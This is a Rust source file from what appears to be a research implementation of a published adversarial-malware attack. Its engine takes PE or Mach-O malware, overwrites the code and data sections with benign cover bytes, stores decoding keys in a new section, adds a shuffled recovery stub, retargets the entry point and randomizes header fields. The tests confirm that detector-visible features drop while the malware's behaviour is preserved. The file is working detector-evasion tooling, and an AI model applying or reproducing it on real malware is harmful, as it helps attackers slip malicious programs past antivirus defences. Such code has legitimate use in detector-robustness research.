//! Malware modification (§III-C): the paper's Fig. 1 workflow step that
//! turns a malware sample into a function-preserving, perturbable carrier.
//!
//! * The critical **code and data sections** (as identified by PEM) are
//!   overwritten with benign cover content; additive keys are computed so
//!   the runtime-recovery stub restores the originals before execution.
//! * A **new section** receives the keys, the (shuffled) recovery stub and
//!   extra benign perturbation space; the entry point is retargeted at the
//!   stub. When the section table has no room, the engine degrades to the
//!   paper's **overlay appending** fallback (no encoding possible — there
//!   is nowhere executable to put a stub).
//! * **Semantics-free header fields** (timestamp, image version) are
//!   randomized, as RL-Attack does.
//!
//! The output records every *optimizable byte*: independent positions
//! (gap filler, free space, overlay) and coupled positions (benign cover
//! bytes whose keys must co-move — the `(j, k) ∈ J` pairs behind Eq. 2's
//! matrix `M`).

use crate::recovery::{compute_keys, generate_recovery_stub, EncodedRegion};
use crate::shuffle::{layout_sequential, layout_shuffled};
use mpass_binary::{BinaryError, BinaryFormat, BinaryImage, Loadable, SectionKind};
use mpass_corpus::{BenignPool, Sample};
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Errors from the modification engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ModifyError {
    /// The underlying container manipulation failed.
    Binary(BinaryError),
    /// The sample has no section containing the entry point.
    NoEntrySection,
    /// A virtual address does not fit the stub's 32-bit address space.
    AddressOverflow(u64),
}

impl fmt::Display for ModifyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ModifyError::Binary(e) => write!(f, "container manipulation failed: {e}"),
            ModifyError::NoEntrySection => write!(f, "entry point maps into no section"),
            ModifyError::AddressOverflow(va) => {
                write!(f, "virtual address {va:#x} exceeds the stub's 32-bit space")
            }
        }
    }
}

impl std::error::Error for ModifyError {}

impl From<BinaryError> for ModifyError {
    fn from(e: BinaryError) -> Self {
        ModifyError::Binary(e)
    }
}

/// Narrow a virtual address to the stub's `u32` address space.
fn va32(va: u64) -> Result<u32, ModifyError> {
    u32::try_from(va).map_err(|_| ModifyError::AddressOverflow(va))
}

/// Which perturbation carrier the engine produced.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ModificationMode {
    /// Full pipeline: encoded sections + new section with stub/keys.
    NewSection,
    /// Fallback for images whose section table is full: overlay appending
    /// plus header edits only.
    OverlayAppend,
}

/// Configuration of the modification engine.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ModificationConfig {
    /// Encode code-kind sections.
    pub encode_code: bool,
    /// Encode data-kind sections.
    pub encode_data: bool,
    /// Shuffle the stub (the paper's anti-pattern-learning strategy).
    pub shuffle: bool,
    /// Maximum shuffle gap between stub cells, in 8-byte units.
    pub max_gap_units: usize,
    /// Extra benign perturbation space appended after the stub (bytes).
    pub perturb_space: usize,
    /// Bytes appended in the overlay fallback mode.
    pub overlay_space: usize,
    /// Randomize semantics-free header fields.
    pub edit_header: bool,
    /// Ablation switch (Table V): modify *non-critical* sections
    /// (read-only data, resources, relocations) instead of code/data,
    /// still via the recovery machinery since read-only data may be read
    /// at runtime.
    pub other_sections_instead: bool,
}

impl Default for ModificationConfig {
    fn default() -> Self {
        ModificationConfig {
            encode_code: true,
            encode_data: true,
            shuffle: true,
            max_gap_units: 3,
            perturb_space: 2048,
            overlay_space: 4096,
            edit_header: true,
            other_sections_instead: false,
        }
    }
}

/// A byte whose value the optimizer may choose, paired with the key byte
/// that must co-move to preserve functionality (`key = cover − original`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct CoupledByte {
    /// File offset of the benign cover byte (inside an encoded section).
    pub cover_offset: usize,
    /// File offset of its key byte (inside the new section).
    pub key_offset: usize,
    /// The original malware byte this position must recover to.
    pub original: u8,
}

/// A modified, perturbable sample.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ModifiedSample {
    /// Serialized image bytes — the authoritative artifact. The optimizer
    /// mutates these in place at the recorded offsets.
    pub bytes: Vec<u8>,
    /// Which carrier mode was used.
    pub mode: ModificationMode,
    /// Independent optimizable file offsets (gap filler, free space,
    /// overlay). Never executed; mutate freely.
    pub free_offsets: Vec<usize>,
    /// Coupled cover/key positions (Eq. 2's `J` corpus).
    pub coupled: Vec<CoupledByte>,
}

impl ModifiedSample {
    /// Total number of optimizable byte positions.
    pub fn position_count(&self) -> usize {
        self.free_offsets.len() + self.coupled.len()
    }

    /// Write `value` at optimizable position `index` (indices first cover
    /// `free_offsets`, then `coupled`), maintaining key coupling.
    ///
    /// # Panics
    ///
    /// Panics when `index ≥ position_count()`.
    pub fn set_position(&mut self, index: usize, value: u8) {
        if index < self.free_offsets.len() {
            let off = self.free_offsets[index];
            self.bytes[off] = value;
        } else {
            let c = self.coupled[index - self.free_offsets.len()];
            self.bytes[c.cover_offset] = value;
            self.bytes[c.key_offset] = crate::recovery::rekey(value, c.original);
        }
    }

    /// Re-parse the current bytes (for structural assertions).
    ///
    /// # Errors
    ///
    /// Propagates [`BinaryError`] if the bytes were corrupted — which would
    /// indicate a bug, since optimizable positions never overlap structure.
    pub fn reparse(&self) -> Result<BinaryImage, BinaryError> {
        BinaryImage::parse_auto(&self.bytes)
    }
}

/// Section kinds modified in the Other-sec ablation.
fn is_other_modifiable(kind: SectionKind) -> bool {
    matches!(
        kind,
        SectionKind::ReadOnlyData | SectionKind::Resource | SectionKind::Relocation
    )
}

/// Run the modification engine on `sample`.
///
/// The engine is container-neutral: it edits the sample through the
/// [`BinaryFormat`] trait, so PE and Mach-O malware flow through the same
/// encode → stub → retarget pipeline. The PE path draws from `rng` in
/// exactly the order the PE-only engine did, keeping seeded attacks
/// byte-identical.
///
/// # Errors
///
/// Returns [`ModifyError`] when the sample's entry point is unmappable or
/// container manipulation fails for reasons other than a full section
/// table (that case triggers the overlay fallback instead).
pub fn modify<R: Rng + ?Sized>(
    sample: &Sample,
    pool: &BenignPool,
    cfg: &ModificationConfig,
    rng: &mut R,
) -> Result<ModifiedSample, ModifyError> {
    let mut image = sample.image.clone();
    let original_entry = va32(image.entry_point())?;
    if image.section_index_containing_va(original_entry as u64).is_none() {
        return Err(ModifyError::NoEntrySection);
    }

    if cfg.edit_header {
        // Each backend randomizes its own loader-ignored fields; the PE
        // draw order (timestamp, then major/minor image version) is part of
        // its stability contract.
        image.randomize_free_headers(&mut &mut *rng);
    }

    // The full pipeline adds two sections: a resource-kind section for the
    // decoding keys (resources are routinely high-entropy — icons,
    // compressed manifests — so the keys raise no entropy flags there) and
    // a code section for the stub plus perturbation space.
    if !image.can_add_sections(2) {
        return Ok(overlay_fallback(image, pool, cfg, rng));
    }

    // ---- select and encode target sections ----
    let select = |kind: SectionKind| -> bool {
        if cfg.other_sections_instead {
            is_other_modifiable(kind)
        } else {
            (cfg.encode_code && kind == SectionKind::Code)
                || (cfg.encode_data && kind == SectionKind::Data)
        }
    };
    let metas: Vec<_> =
        (0..image.section_count()).filter_map(|i| image.section_meta(i)).collect();
    let target_idx: Vec<usize> = metas
        .iter()
        .enumerate()
        .filter(|(i, m)| {
            select(m.kind) && image.section_data(*i).is_some_and(|d| !d.is_empty())
        })
        .map(|(i, _)| i)
        .collect();

    let mut regions: Vec<EncodedRegion> = Vec::with_capacity(target_idx.len());
    let mut keys_blob: Vec<u8> = Vec::new();
    let mut originals: Vec<Vec<u8>> = Vec::with_capacity(target_idx.len());
    let new_va = va32(image.next_free_va())?;
    for &i in &target_idx {
        let original = image.section_data(i).unwrap_or_default().to_vec();
        let len = original.len();
        let cover = pool.random_chunk(len, rng);
        let keys = compute_keys(&original, &cover);
        regions.push(EncodedRegion {
            rva: va32(metas[i].virtual_address)?,
            len: len as u32,
            key_rva: new_va + keys_blob.len() as u32,
        });
        keys_blob.extend_from_slice(&keys);
        originals.push(original);
        if let Some(data) = image.section_data_mut(i) {
            data.copy_from_slice(&cover);
        }
    }

    // ---- keys section (resource-kind) ----
    let keys_name = random_section_name(image.format(), rng);
    let keys_va = image.add_section(&keys_name, keys_blob.clone(), SectionKind::Resource)?;
    debug_assert_eq!(keys_va, new_va as u64, "next_free_va must predict add_section");

    // ---- stub section: [stub (shuffled)][free space] ----
    let stub_base = va32(image.next_free_va())?;
    let stub = generate_recovery_stub(&regions, original_entry);
    let (stub_bytes, filler_ranges) = if cfg.shuffle {
        // Separate stream for filler content so the closure does not alias
        // the layout rng.
        let mut filler_rng = rand_chacha::ChaCha8Rng::seed_from_u64(rng.gen());
        let mut filler = |len: usize| pool.random_chunk(len, &mut filler_rng);
        let layout = layout_shuffled(&stub, stub_base, cfg.max_gap_units, &mut filler, rng);
        (layout.bytes, layout.filler_ranges)
    } else {
        (layout_sequential(&stub, stub_base), Vec::new())
    };
    let free_space = pool.random_chunk(cfg.perturb_space, rng);
    let mut section_content = stub_bytes.clone();
    section_content.extend_from_slice(&free_space);

    let stub_name = loop {
        let name = random_section_name(image.format(), rng);
        if name != keys_name {
            break name;
        }
    };
    let got_va = image.add_section(&stub_name, section_content, SectionKind::Code)?;
    debug_assert_eq!(got_va, stub_base as u64, "next_free_va must predict add_section");
    image.set_entry_point(stub_base as u64)?;
    image.finalize();

    // ---- record optimizable positions as file offsets ----
    let bytes = image.to_bytes();
    let file_offset_of = |name: &str| -> usize {
        (0..image.section_count())
            .filter_map(|i| image.section_meta(i))
            .find(|m| m.name == name)
            .map(|m| m.file_offset)
            .unwrap_or_default()
    };
    let keys_raw = file_offset_of(&keys_name);
    let stub_off = file_offset_of(&stub_name);
    let mut free_offsets: Vec<usize> = Vec::new();
    for (a, b) in &filler_ranges {
        free_offsets.extend(stub_off + a..stub_off + b);
    }
    let free_space_off = stub_off + stub_bytes.len();
    free_offsets.extend(free_space_off..free_space_off + cfg.perturb_space);

    let mut coupled = Vec::new();
    let mut key_cursor = keys_raw;
    for (region_i, &i) in target_idx.iter().enumerate() {
        let cover_base = image.section_meta(i).map(|m| m.file_offset).unwrap_or_default();
        let original = &originals[region_i];
        for (j, &orig) in original.iter().enumerate() {
            coupled.push(CoupledByte {
                cover_offset: cover_base + j,
                key_offset: key_cursor + j,
                original: orig,
            });
        }
        key_cursor += original.len();
    }

    Ok(ModifiedSample { bytes, mode: ModificationMode::NewSection, free_offsets, coupled })
}

/// The overlay-appending fallback for images without header space.
fn overlay_fallback<R: Rng + ?Sized>(
    mut image: BinaryImage,
    pool: &BenignPool,
    cfg: &ModificationConfig,
    rng: &mut R,
) -> ModifiedSample {
    let chunk = pool.random_chunk(cfg.overlay_space, rng);
    let overlay_start = image.to_bytes().len();
    image.append_overlay(&chunk);
    image.finalize();
    let bytes = image.to_bytes();
    let free_offsets: Vec<usize> = (overlay_start..overlay_start + chunk.len()).collect();
    ModifiedSample {
        bytes,
        mode: ModificationMode::OverlayAppend,
        free_offsets,
        coupled: Vec::new(),
    }
}

/// A random section name in the target container's naming convention
/// (`.xxxx` for PE, `__xxxx` for Mach-O). The rng draw count is identical
/// across formats.
fn random_section_name<R: Rng + ?Sized>(format: mpass_binary::Format, rng: &mut R) -> String {
    let len = rng.gen_range(3..=6);
    let mut name = String::from(match format {
        mpass_binary::Format::Pe => ".",
        mpass_binary::Format::MachO => "__",
    });
    for _ in 0..len {
        name.push((b'a' + rng.gen_range(0..26u8)) as char);
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpass_corpus::{CorpusConfig, Dataset};
    use mpass_sandbox::Sandbox;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    fn world() -> (Dataset, BenignPool) {
        let ds = Dataset::generate(&CorpusConfig {
            n_malware: 10,
            n_benign: 4,
            seed: 31,
            no_slack_fraction: 0.3,
        });
        let pool = BenignPool::generate(4, 99);
        (ds, pool)
    }

    #[test]
    fn modification_preserves_functionality() {
        let (ds, pool) = world();
        let sandbox = Sandbox::new();
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        for s in ds.malware() {
            let ms = modify(s, &pool, &ModificationConfig::default(), &mut rng).unwrap();
            let verdict = sandbox.verify_functionality(&s.bytes, &ms.bytes);
            assert!(verdict.is_preserved(), "{}: {verdict} (mode {:?})", s.name, ms.mode);
        }
    }

    #[test]
    fn no_slack_samples_take_overlay_fallback() {
        let (ds, pool) = world();
        let mut rng = ChaCha8Rng::seed_from_u64(2);
        let mut saw_overlay = false;
        let mut saw_newsec = false;
        for s in ds.malware() {
            let ms = modify(s, &pool, &ModificationConfig::default(), &mut rng).unwrap();
            match ms.mode {
                ModificationMode::OverlayAppend => saw_overlay = true,
                ModificationMode::NewSection => saw_newsec = true,
            }
        }
        assert!(saw_overlay && saw_newsec);
    }

    #[test]
    fn cover_hides_suspicious_api_opcodes() {
        let (ds, pool) = world();
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        let s = ds.malware().into_iter().find(|s| s.pe().unwrap().can_add_section()).unwrap();
        let ms = modify(s, &pool, &ModificationConfig::default(), &mut rng).unwrap();
        let img = ms.reparse().unwrap();
        let pe = img.as_pe().unwrap();
        let orig_code = s
            .pe()
            .unwrap()
            .sections()
            .iter()
            .find(|x| x.kind() == SectionKind::Code)
            .unwrap()
            .data()
            .to_vec();
        let new_code = pe
            .sections()
            .iter()
            .find(|x| x.kind() == SectionKind::Code && !x.data().is_empty())
            .unwrap()
            .data()
            .to_vec();
        assert_ne!(orig_code, new_code, "cover must replace original code");
        let sus_orig = mpass_detectors::features::suspicious_api_count(&orig_code);
        let sus_cover = mpass_detectors::features::suspicious_api_count(&new_code);
        assert!(sus_orig >= 3);
        assert!(sus_cover < sus_orig, "cover leaks API opcodes: {sus_cover} vs {sus_orig}");
    }

    #[test]
    fn set_position_maintains_coupling_and_functionality() {
        let (ds, pool) = world();
        let sandbox = Sandbox::new();
        let mut rng = ChaCha8Rng::seed_from_u64(4);
        let s = ds.malware().into_iter().find(|s| s.pe().unwrap().can_add_section()).unwrap();
        let mut ms = modify(s, &pool, &ModificationConfig::default(), &mut rng).unwrap();
        let n = ms.position_count();
        for idx in (0..n).step_by(7) {
            ms.set_position(idx, (idx % 251) as u8);
        }
        let verdict = sandbox.verify_functionality(&s.bytes, &ms.bytes);
        assert!(verdict.is_preserved(), "{verdict}");
    }

    #[test]
    fn positions_are_unique_and_in_bounds() {
        let (ds, pool) = world();
        let mut rng = ChaCha8Rng::seed_from_u64(5);
        let s = ds.malware().into_iter().find(|s| s.pe().unwrap().can_add_section()).unwrap();
        let ms = modify(s, &pool, &ModificationConfig::default(), &mut rng).unwrap();
        let mut all: Vec<usize> = ms.free_offsets.clone();
        all.extend(ms.coupled.iter().map(|c| c.cover_offset));
        all.extend(ms.coupled.iter().map(|c| c.key_offset));
        assert!(all.iter().all(|&o| o < ms.bytes.len()));
        let before = all.len();
        all.sort_unstable();
        all.dedup();
        assert_eq!(all.len(), before, "offset collision");
    }

    #[test]
    fn shuffle_off_still_preserves() {
        let (ds, pool) = world();
        let sandbox = Sandbox::new();
        let mut rng = ChaCha8Rng::seed_from_u64(6);
        let cfg = ModificationConfig { shuffle: false, ..ModificationConfig::default() };
        for s in ds.malware().into_iter().take(4) {
            let ms = modify(s, &pool, &cfg, &mut rng).unwrap();
            assert!(sandbox.verify_functionality(&s.bytes, &ms.bytes).is_preserved());
        }
    }

    #[test]
    fn other_sec_mode_leaves_code_and_data_alone() {
        let (ds, pool) = world();
        let sandbox = Sandbox::new();
        let mut rng = ChaCha8Rng::seed_from_u64(7);
        let cfg =
            ModificationConfig { other_sections_instead: true, ..ModificationConfig::default() };
        let s = ds.malware().into_iter().find(|s| s.pe().unwrap().can_add_section()).unwrap();
        let ms = modify(s, &pool, &cfg, &mut rng).unwrap();
        let img = ms.reparse().unwrap();
        let pe = img.as_pe().unwrap();
        for kind in [SectionKind::Code, SectionKind::Data] {
            let orig = s.pe().unwrap().sections().iter().find(|x| x.kind() == kind).unwrap();
            let new = pe.section(&orig.name()).unwrap();
            assert_eq!(orig.data(), new.data(), "{kind} must be untouched");
        }
        assert!(sandbox.verify_functionality(&s.bytes, &ms.bytes).is_preserved());
    }

    #[test]
    fn two_runs_differ_by_randomness() {
        let (ds, pool) = world();
        let s = ds.malware()[0];
        let mut r1 = ChaCha8Rng::seed_from_u64(8);
        let mut r2 = ChaCha8Rng::seed_from_u64(9);
        let a = modify(s, &pool, &ModificationConfig::default(), &mut r1).unwrap();
        let b = modify(s, &pool, &ModificationConfig::default(), &mut r2).unwrap();
        assert_ne!(a.bytes, b.bytes, "shuffle/benign-content randomness must differ");
    }
}
